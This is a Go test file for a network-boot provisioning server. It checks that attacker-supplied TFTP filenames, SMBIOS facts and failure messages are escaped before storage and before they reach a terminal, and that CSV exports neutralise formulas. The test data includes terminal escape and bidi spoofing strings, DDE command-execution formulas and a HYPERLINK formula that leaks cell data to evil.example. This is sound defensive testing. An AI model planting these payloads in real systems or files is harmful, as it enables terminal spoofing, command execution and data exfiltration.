package faults

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stagehand-dev/stagehand/tftp/tftptest"
)

// A stranger's text, as the machine endpoints receive it. The TFTP
// filename sets the window title, clears the screen and draws a fake
// status line; the SMBIOS facts carry C1 controls (U+009B is CSI by
// itself; U+009D…U+009C an OSC hyperlink), bidi overrides and isolates,
// and a byte that is not UTF-8 (stage 2 refuses C0 controls already);
// the failure message writes the clipboard (OSC 52), reverses the line,
// moves to a new one and sends a raw 8-bit CSI.
const (
	textTFTPName     = "\x1b]0;pwned\x07\x1b[2J\x1b[1;1Hstagehand: all hosts installed"
	textSerial       = "SN\u009b2J\u202etxt.exe\xff"
	textProduct      = "\u202eEdge\u2066 1000\u2069"
	textManufacturer = "\u009d8;;http://evil.example\u009cACME"
	textFailure      = "\x1b[2J\x1b]52;c;cHduZWQ=\x07install ok\u202e\r\n\x9b31m"
)

// The same, as the store must keep them: escaped, so the record shows
// what was sent and no terminal acts on it.
const (
	textTFTPStored    = `\x1b]0;pwned\x07\x1b[2J\x1b[1;1Hstagehand: all hosts installed`
	textSerialStored  = `SN\u009b2J\u202etxt.exe\xff`
	textProductStored = `\u202eEdge\u2066 1000\u2069`
	textManufStored   = `\u009d8;;http://evil.example\u009cACME`
	textFailureStored = `\x1b[2J\x1b]52;c;cHduZWQ=\x07install ok\u202e\r\n\x9b31m`
	textTFTPMarker    = "stagehand: all hosts installed"
)

// textHTTPFrom is a client whose connections come from ip: on loopback,
// any 127.x.y.z address is a machine of its own.
func textHTTPFrom(ip string) *http.Client {
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}, Timeout: 5 * time.Second}
	return &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DialContext: d.DialContext}}
}

// textStage2 asks for host mac's stage 2 with the given SMBIOS facts, as
// iPXE's stage 1 does, and returns the install token.
func textStage2(t *testing.T, c *http.Client, s *server, mac string, facts url.Values) string {
	t.Helper()
	q := url.Values{"mac": {mac}}
	for k, v := range facts {
		q[k] = v
	}
	body, err := get(c, s.url()+"/ipxe?"+q.Encode())
	if err != nil {
		t.Fatalf("stage 2 of %s: %v", mac, err)
	}
	m := tokenRe.FindStringSubmatch(body)
	if m == nil {
		t.Fatalf("no install token in the stage 2 of %s:\n%s", mac, body)
	}
	return m[1]
}

// textFail plays the installer of the attempt holding token: it fetches
// its user-data and reports failure with msg on the callback it names.
func textFail(t *testing.T, c *http.Client, s *server, token, msg string) {
	t.Helper()
	body, err := get(c, s.url()+"/userdata/"+token)
	if err != nil {
		t.Fatal(err)
	}
	done := callbackRe.FindString(body)
	if done == "" {
		t.Fatalf("no callback in the user-data:\n%s", body)
	}
	resp, err := c.Post(strings.TrimSuffix(done, "/done")+"/failed", "text/plain", strings.NewReader(msg))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("failure callback: %s", resp.Status)
	}
}

// textServer starts a server with profile edge and the hosts of
// manifest. Stage 2 comes from loopback, where no lease, DHCP exchange or
// neighbour entry can vouch for a MAC at 127.x: the binding is off (it
// has its own tests).
func textServer(t *testing.T, manifest string) *server {
	t.Helper()
	s := newServer(t)
	s.args = []string{"--mac-binding", "off"}
	s.start()
	s.addProfile("edge", 1024)
	path := filepath.Join(t.TempDir(), "rack.csv")
	if err := os.WriteFile(path, []byte(manifest), 0o644); err != nil {
		t.Fatal(err)
	}
	textCLI(t, s, "host", "import", path)
	return s
}

// textCLI runs the CLI and fails the test if it does.
func textCLI(t *testing.T, s *server, args ...string) string {
	t.Helper()
	out, err := exec.Command(binary, append(args, "--server", s.url(), "--data-dir", s.dataDir)...).Output()
	if err != nil {
		t.Fatalf("stagehand %s: %v\n%s", strings.Join(args, " "), err, out)
	}
	return string(out)
}

// textTerminalSafe fails unless out can go to a terminal as it is: valid
// UTF-8, no C0 control but newline, no DEL, no C1 control, no bidi
// control.
func textTerminalSafe(t *testing.T, what, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s: output is not valid UTF-8 (a raw 8-bit control?):\n%q", what, out)
		return
	}
	for i, r := range out {
		if (r < 0x20 && r != '\n') || (r >= 0x7f && r <= 0x9f) || (r >= 0x202a && r <= 0x202e) ||
			(r >= 0x2066 && r <= 0x2069) || r == 0x200e || r == 0x200f || r == 0x061c {
			t.Errorf("%s: raw control %U at byte %d:\n%q", what, r, i, out)
			return
		}
	}
}

// A stranger's TFTP filename, SMBIOS facts and failure message never
// reach the operator's terminal raw: the store keeps them escaped
// (checked through the API's JSON), and host events, list, show, the
// export and status print no ESC, C1 or bidi control.
func TestStrangerTextEscaped(t *testing.T) {
	const mac = "02:5e:00:00:00:01"
	s := textServer(t, "mac,name,serial,profile\n"+mac+",victim,SN-1,edge\n")

	// The stranger's machine at 127.0.0.61 gets its stage 2 (which ties
	// the address to the MAC for the events that follow), then asks TFTP
	// for a file whose name is a terminal escape sequence.
	c := textHTTPFrom("127.0.0.61")
	token := textStage2(t, c, s, mac, url.Values{"serial": {textSerial}, "product": {textProduct}, "manufacturer": {textManufacturer}})
	conn, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 61)})
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := conn.WriteToUDP(tftptest.RRQ(textTFTPName, ""), &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1), Port: s.tftpPort}); err != nil {
		t.Fatal(err)
	}
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, _, err := conn.ReadFromUDP(make([]byte, 512)); err != nil {
		t.Fatalf("no answer to the RRQ: %v", err)
	}
	textFail(t, c, s, token, textFailure)

	// The TFTP event goes through the recorder: wait for it.
	type event struct{ Kind, Detail string }
	var events []event
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		events = nil
		if err := json.Unmarshal([]byte(textCLI(t, s, "host", "events", mac, "-o", "json")), &events); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(fmt.Sprint(events), textTFTPMarker) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("no tftp event after 10 s: %+v", events)
		}
	}

	// What the store holds, through the API's JSON.
	var h struct {
		FailedMessage string `json:"failedMessage"`
		Facts         struct{ Serial, Product, Manufacturer string }
	}
	if err := json.Unmarshal([]byte(textCLI(t, s, "host", "show", mac, "-o", "json")), &h); err != nil {
		t.Fatal(err)
	}
	for _, f := range []struct{ what, got, want string }{
		{"facts.serial", h.Facts.Serial, textSerialStored},
		{"facts.product", h.Facts.Product, textProductStored},
		{"facts.manufacturer", h.Facts.Manufacturer, textManufStored},
		{"failedMessage", h.FailedMessage, textFailureStored},
	} {
		if f.got != f.want {
			t.Errorf("stored %s = %q, want %q", f.what, f.got, f.want)
		}
	}
	var tftp, failed bool
	for _, e := range events {
		tftp = tftp || (e.Kind == "tftp" && strings.Contains(e.Detail, textTFTPStored))
		failed = failed || (e.Kind == "failed" && e.Detail == textFailureStored)
	}
	if !tftp || !failed {
		t.Errorf("stored events (tftp escaped %v, failure escaped %v): %+v", tftp, failed, events)
	}

	// What the operator's terminal gets.
	for _, args := range [][]string{
		{"host", "events", mac}, {"host", "events", mac, "-o", "json"},
		{"host", "list"}, {"host", "list", "-o", "json"},
		{"host", "show", mac}, {"host", "show", mac, "-o", "json"},
		{"host", "export"}, {"host", "export", "--format", "json"},
		{"status"},
	} {
		out := textCLI(t, s, args...)
		textTerminalSafe(t, strings.Join(args, " "), out)
	}
	if out := textCLI(t, s, "host", "events", mac); !strings.Contains(out, textTFTPStored) || !strings.Contains(out, textFailureStored) {
		t.Errorf("host events does not show the escaped evidence:\n%s", out)
	}
}

// textCSVCheck is run by python3: it reads the export with the csv
// module, prints every row as JSON, and fails when a cell begins with a
// character a spreadsheet runs as a formula (OWASP's CSV injection).
const textCSVCheck = `
import csv, json, sys
with open(sys.argv[1], newline="") as f:
    rows = list(csv.reader(f))
bad = [[i, j, c] for i, row in enumerate(rows) for j, c in enumerate(row) if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
json.dump({"rows": rows, "bad": bad}, sys.stdout)
sys.exit(1 if bad else 0)
`

// A stranger plants formulas in every field of the export it can reach
// (the SMBIOS serial of a host still booting, failure messages beginning
// with =, +, -, @, tab or CR) and the manifest carries values that start
// like one legitimately (a serial "-7731-A", a tag "@site"). Opened
// with Python's csv module, no cell of host export --format csv begins
// with a formula character; imported back with host import, the
// manifest's values are unchanged.
func TestStrangerFormulasNeutralisedInExport(t *testing.T) {
	const booting = "02:5e:00:00:01:00"
	failures := []string{"=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+2", "\r=1+2"}
	var m strings.Builder
	m.WriteString("mac,name,serial,profile,tags\n")
	fmt.Fprintf(&m, "%s,booting,-7731-A,edge,@site=lab\n", booting)
	for i := range failures {
		fmt.Fprintf(&m, "02:5e:00:00:01:%02x,failed%d,SN-%d,edge,\n", i+1, i+1, i+1)
	}
	s := textServer(t, m.String())

	c := textHTTPFrom("127.0.0.71")
	const formula = `=HYPERLINK("http://evil.example/?leak="&A2&B2,"Serial OK")`
	textStage2(t, c, s, booting, url.Values{"serial": {formula}})
	for i, msg := range failures {
		textFail(t, c, s, textStage2(t, c, s, fmt.Sprintf("02:5e:00:00:01:%02x", i+1), nil), msg)
	}

	file := filepath.Join(t.TempDir(), "export.csv")
	textCLI(t, s, "host", "export", "--format", "csv", "-f", file)
	out, err := exec.Command("python3", "-c", textCSVCheck, file).Output()
	var res struct {
		Rows [][]string
		Bad  [][]any
	}
	if jerr := json.Unmarshal(out, &res); jerr != nil {
		t.Fatalf("python3: %v, %v\n%s", err, jerr, out)
	}
	if err != nil || len(res.Bad) > 0 {
		t.Fatalf("python3's csv module finds cells that begin a formula (%v): %v", err, res.Bad)
	}
	if len(res.Rows) != len(failures)+2 {
		t.Fatalf("python3 read %d rows, want %d", len(res.Rows), len(failures)+2)
	}
	t.Logf("python3 read %d rows of %d cells, none beginning with = + - @ tab CR", len(res.Rows), len(res.Rows[0]))
	col := map[string]int{}
	for i, name := range res.Rows[0] {
		col[name] = i
	}
	cells := map[string]string{}
	for _, r := range res.Rows[1:] {
		cells[r[col["mac"]]+" smbios_serial"] = r[col["smbios_serial"]]
		cells[r[col["mac"]]+" failed_message"] = r[col["failed_message"]]
		cells[r[col["mac"]]+" state"] = r[col["state"]]
	}
	// The planted text is all there, inert behind its quote.
	if got := cells[booting+" smbios_serial"]; got != "'"+formula || cells[booting+" state"] != "booting" {
		t.Errorf("booting host: state %q, smbios_serial cell %q, want %q", cells[booting+" state"], got, "'"+formula)
	}
	if got := cells["02:5e:00:00:01:01 failed_message"]; got != "'"+failures[0] {
		t.Errorf("failed_message cell %q, want %q", got, "'"+failures[0])
	}

	// The export is a manifest: imported back, the values that begin like
	// a formula are the manifest's own again.
	textCLI(t, s, "host", "import", file)
	var h struct {
		Serial string
		Site   struct{ Tags map[string]string }
	}
	if err := json.Unmarshal([]byte(textCLI(t, s, "host", "show", booting, "-o", "json")), &h); err != nil {
		t.Fatal(err)
	}
	if h.Serial != "-7731-A" || h.Site.Tags["@site"] != "lab" || len(h.Site.Tags) != 1 {
		t.Errorf("after importing the export: serial %q tags %v, want -7731-A and @site=lab", h.Serial, h.Site.Tags)
	}
}
